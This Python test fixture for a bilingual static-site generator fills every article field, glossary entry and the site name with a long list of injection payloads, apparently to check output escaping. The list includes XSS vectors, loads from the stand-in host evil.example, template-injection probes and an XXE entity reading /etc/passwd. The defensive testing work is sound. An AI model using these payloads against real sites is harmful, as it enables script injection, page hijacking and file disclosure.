"""Texts that want to be more than text, and a site that has each of them in every field there is."""

from __future__ import annotations

import datetime as dt
from dataclasses import replace
from pathlib import Path

from PIL import Image as Picture

from sejajar import catalogs as catalog_format
from sejajar.formats import article as article_format
from sejajar.formats import glossary as glossary_format
from sejajar.formats.article import from_plain
from sejajar.formats.glossary import Glossary, Term
from sejajar.model import (
    Article,
    Correction,
    Image,
    ItemList,
    Kind,
    Metadata,
    Paragraph,
    Quote,
    Reference,
    Section,
    Segment,
    Source,
    numbered,
)
from sites import make_site

RUN = "window.ran=(window.ran||0)+1"
"""What every one of them wants to do; some ask another host as well, or open a dialog, or break the page."""

_LINES = f"""
<script>{RUN}</script>
</script><script>{RUN}</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script type=module>import "https://evil.example/m.js"</script>
<script>alert(1)</script>
<img src=x onerror={RUN}>
<img src=x onerror="{RUN}">
<img src='https://evil.example/p.png'>
<image href=x onerror={RUN}>
"><img src=x onerror={RUN}>
'><img src=x onerror={RUN}>
" onmouseover="{RUN}" x="
' onfocus='{RUN}' autofocus='
` onmouseover=`{RUN}`
<svg onload={RUN}>
<svg><script>{RUN}</script></svg>
<svg><animate onbegin={RUN} attributeName=x dur=1s>
<math><mi xlink:href="javascript:{RUN}">x</mi></math>
<iframe src="javascript:parent.{RUN}"></iframe>
<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>
<object data="javascript:{RUN}"></object>
<embed src="https://evil.example/e.swf">
<body onload={RUN}>
<video><source onerror="{RUN}"></video>
<audio src=x onerror={RUN}>
<details open ontoggle={RUN}>x</details>
<input autofocus onfocus={RUN}>
<select autofocus onfocus={RUN}>
<marquee onstart={RUN}>x</marquee>
<link rel=stylesheet href=https://evil.example/c.css>
<style>@import "https://evil.example/s.css";*{{display:none}}</style>
<div style="position:fixed;inset:0;background:url(https://evil.example/b.png)">x</div>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<form action="https://evil.example/"><button>x</button></form>
<a href="javascript:{RUN}">klik</a>
[klik](javascript:{RUN})
[klik](JaVaScRiPt:{RUN})
[klik](data:text/html,<script>{RUN}</script>)
[klik](https://contoh.id/"onmouseover="{RUN})
![gambar](https://evil.example/i.png)
![gambar](javascript:{RUN})
<https://evil.example/a>
{{: onclick="{RUN}" }}
{{: .sj-tip #__search style="display:none" }}
{{{{ config.site_name }}}} {{% include "main.html" %}}
{{{{ ''.__class__.__mro__ }}}}
&lt;script&gt;{RUN}&lt;/script&gt;
&#60;script&#62;{RUN}&#60;/script&#62;
&#x3c;img src=x onerror={RUN}&#x3e;
<!-- --><script>{RUN}</script><!--
<!--sejajar/latest--> <!-- sejajar/latest -->
]]><script>{RUN}</script><![CDATA[
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;
<![CDATA[<script>{RUN}</script>]]>
</title><script>{RUN}</script>
</textarea><script>{RUN}</script>
</template><script>{RUN}</script>
</dl></div></article></main><script>{RUN}</script>
<noscript><p title="</noscript><img src=x onerror={RUN}>">
<x onclick={RUN} tabindex=1 autofocus onfocus={RUN}>x</x>
\\"-{RUN}-"\\'-{RUN}-'
\\u003cscript\\u003e{RUN}\\u003c/script\\u003e
${{{RUN}}} #{{{RUN}}} <%= {RUN} %>
javascript:{RUN}//
--8<-- "mkdocs.yml"
$$\\href{{javascript:{RUN}}}{{x}}$$ ==x== ^^x^^ ~~x~~ :smile:
*[KPK]: <script>{RUN}</script>
[^1]: <script>{RUN}</script>
"""
PAYLOADS = [*_LINES.strip().splitlines(), "kata" * 75, "WM" * 150, "https://contoh.id/" + "a-_b" * 70]

NAME = f"""Meja "<b>" '&' </title><script>{RUN}</script><img src=x onerror={RUN}>"""
"""Of the site."""


def hostile_article(index: int, payload: str) -> tuple[Article, dict[str, str]]:
    """An article that has a payload in every field, and its English, which has it as it is."""
    english: dict[str, str] = {}

    def say(kind: Kind, place: str) -> Segment:
        text = from_plain(f"Kata {place} {index} {payload} sesudahnya")
        # Every second time as a person or a machine might leave it: not escaped.
        english[text] = f"Word {payload} after" if index % 2 else from_plain(f"Word {payload} after")
        return Segment(kind, text)

    day = dt.date(2025, 1, 1) + dt.timedelta(days=index)
    name = " ".join(payload.split())
    metadata = Metadata(
        day,
        place=name,
        updated=dt.date(day.year, day.month, day.day),
        authors=(name, "Ana"),
        translators=(name,),
        editors=(name,),
        source=Source(name, "https://contoh.id/?a='b'&c=%22", name, name),
        references=(Reference(name, "https://contoh.id/(x)", name), Reference("UNN", "", name)),
        tags=(name, "Pangan"),
        corrections=(Correction(day + dt.timedelta(0), say(Kind.CORRECTION, "ralat")),),
    )
    blocks = (
        Paragraph(say(Kind.PARAGRAPH, "isi")),
        Quote((say(Kind.QUOTE, "kutipan"),), say(Kind.SPEAKER, "penutur")),
        ItemList((say(Kind.ITEM, "butir"),)),
        Image("foto.png", say(Kind.ALT, "alternatif"), say(Kind.CAPTION, "Foto: kredit")),
    )
    path = f"content/{day:%Y}/{day}-muatan-{index:02}/article.id.md"
    title = say(Kind.TITLE, "judul")
    points = (say(Kind.POINT, "poin"),)
    lead = (Paragraph(say(Kind.PARAGRAPH, "istilahku")),)
    sections = (
        Section(say(Kind.HEADING, "bagian"), blocks, 1),
        Section(say(Kind.HEADING, "akhir"), blocks[:1]),
    )
    return numbered(Article(path, metadata, title, points, lead, sections)), english


def hostile_site(root: Path) -> Path:
    """A desk with an article for each payload, and them in the glossary and the site's own words too."""
    make_site(root, articles=[])
    terms = [
        Term(f"istilahku {index}", payload, (payload,), False, "tag", payload, payload)
        for index, payload in enumerate(PAYLOADS)
    ]
    terms += [Term("istilahku", "my term", note_id=PAYLOADS[0], note_en=PAYLOADS[5])]
    (root / "content/glossary.csv").write_text(glossary_format.dumps(Glossary(tuple(terms))), "utf-8")
    for index, payload in enumerate(PAYLOADS):
        article, english = hostile_article(index, payload)
        catalog = catalog_format.sync(catalog_format.empty("article.en.po"), article)
        entries = [replace(entry, msgstr=english.get(entry.msgid, "")) for entry in catalog.entries]
        folder = root / article.folder
        folder.mkdir(parents=True)
        Picture.new("RGB", (16, 9), "green").save(folder / "foto.png")
        (folder / "article.id.md").write_text(article_format.dumps(article), "utf-8")
        (folder / "article.en.po").write_text(catalog_format.dumps(catalog.updated(entries)), "utf-8")
    return root
